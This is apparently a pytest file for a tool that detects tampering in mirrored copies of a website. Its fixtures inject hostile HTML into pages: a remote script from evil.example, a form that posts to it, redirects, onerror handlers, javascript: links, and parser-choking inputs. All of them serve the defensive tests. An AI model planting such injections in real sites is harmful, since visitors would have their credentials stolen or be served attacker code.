"""Malicious code on a page: cfcr2008 in 2010, a trojan on a labour-rights site in 2007, the Great Cannon in 2015.

The update framework calls it the arbitrary-software attack.
"""

import subprocess
import sys
from contextlib import contextmanager

import pytest

from stillhere import files
from stillhere.release.verdict import Verdict
from stillhere.testing import NOON
from stillhere.watch.injected import changes

from . import surfaces
from .acts import seen_by_stranger, tree_of, watched

PAGE = "en/case/li-example.html"
CHANGED = "en/statement/first.html"
"""A page that release 2 has changed, so that a mirror of release 1 asks for it."""
SCRIPT = b'<script src="https://evil.example/x.js"></script>'


def inject(mirror, what=SCRIPT, page=PAGE):
    data = (mirror / page).read_bytes()
    files.write_atomic(mirror / page, data.replace(b"</body>", what + b"</body>"))


def test_an_injected_script_is_found_named_and_nobody_else_is_blamed(published, a, b):
    inject(b)
    good, bad = watched(published, a, b)
    assert (good.verdict, good.tampered) == (Verdict.CURRENT, ())
    assert bad.verdict is Verdict.ALTERED
    assert [tampered.path for tampered in bad.tampered] == [PAGE]
    [change] = bad.tampered[0].changes
    assert (change.code, dict(change.facts)) == ("change-script-from", {"address": "evil[.]example/x.js"})


@pytest.mark.parametrize(
    ("what", "code"),
    [
        (b"<script>steal()</script>", "change-script-inline"),
        (b'<iframe src="https://evil.example/"></iframe>', "change-frame"),
        (b'<form action="https://evil.example/"><input name="p"></form>', "change-form"),
        (b'<meta http-equiv="refresh" content="0;url=https://evil.example/">', "change-redirect"),
        (b'<img alt="" onerror="steal()">', "change-handler"),
        (b'<a href="javascript:steal()">x</a>', "change-script-link"),
        (b'<base href="https://evil.example/">', "change-base"),
        (b'<a href="https://evil.example/">x</a>', "change-link-added"),
        (b"<p>He has confessed.</p>", "change-words"),
        (b" ", "change-bytes"),
    ],
)
def test_what_was_injected_is_said(published, b, what, code):
    inject(b, what)
    [bad] = watched(published, b)
    assert bad.verdict is Verdict.ALTERED
    assert code in [change.code for change in bad.tampered[0].changes]


def test_one_flipped_bit_in_any_file_is_found(published, b):
    genuine = {path: data for path, data in tree_of(b).items() if not path.startswith(".well-known/stillhere/metadata")}
    for path, data in genuine.items():
        (b / path).write_bytes(data[:-1] + bytes([data[-1] ^ 1]))
        judgement = seen_by_stranger(published, b)
        assert judgement.verdict is Verdict.ALTERED, path
        assert [wrong.path for wrong in judgement.inspection.wrong] == [path]
        (b / path).write_bytes(data)
    assert seen_by_stranger(published, b).verdict is Verdict.CURRENT


def test_an_emptied_page_is_altered_and_a_deleted_one_makes_the_copy_incomplete(published, a, b):
    (a / PAGE).write_bytes(b"")
    (b / PAGE).unlink()
    assert [seen.verdict for seen in watched(published, a, b)] == [Verdict.ALTERED, Verdict.INCOMPLETE]


HOSTILE = [
    b'<a href="http://[x">',
    b'<script src="http://[::1">',
    b'<form action="//[">',
    b"<![!x",
    b"<![if",
    b"<!x[",
    b"&#99999999999;",
    b"\xff\xfe<\x00a\x00",
    b"<script>never closed",
    b'<a href="http://a:b:c@d:e/">',
]


@pytest.mark.parametrize("what", HOSTILE)
def test_no_page_can_make_the_watcher_stumble(published, b, what):
    inject(b, what)
    [bad] = watched(published, b)
    assert bad.verdict is Verdict.ALTERED
    assert bad.tampered[0].changes


@pytest.mark.parametrize("part", ["<!--", "<a ", '<a b="', "<a/", "</", "<?", "<![CDATA[", "<p>a"])
def test_no_page_can_hold_the_watcher_up(part):
    code = f"from stillhere.watch.injected import changes; changes(({part!r} * 400_000)[:400_000].encode(), b'<p>x')"
    subprocess.run([sys.executable, "-c", code], check=True, timeout=5)


@pytest.mark.parametrize(
    "page",
    [
        b'<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        b"<script>location='http://evil.example/'</script>",
        b"<img onerror=\"location='http://evil.example/'\">",
        b'<a href="http://EVIL.example/">x</a>',
        b'<iframe src="http://www.evil.example/">',
        b"<a href=\"javascript:open('http://evil.example/')\">x</a>",
        b"<p>Go to http://evil.example/ now",
    ],
)
def test_what_is_said_of_a_page_has_no_address_to_click(page):
    said = " ".join(value for change in changes(page, b"<p>x") for _, value in change.facts)
    assert "evil.example" not in said.lower()


def test_pages_are_judged_by_bytes_not_by_what_they_claim(published, b):
    (b / PAGE).write_bytes((b / "en/index.html").read_bytes())
    assert seen_by_stranger(published, b, NOON).verdict is Verdict.ALTERED


@contextmanager
def injected(world, _surface):
    inject(world.new, page=CHANGED)
    yield world.new


test_on_every_surface = surfaces.every(
    injected,
    verify=(1, "altered", 2),
    watch=(1, "altered", 2),
    mirror=(1, "altered", 1),
    recover=(0, "rebuilt", 2),
    browser=(1, "altered", 0),
)
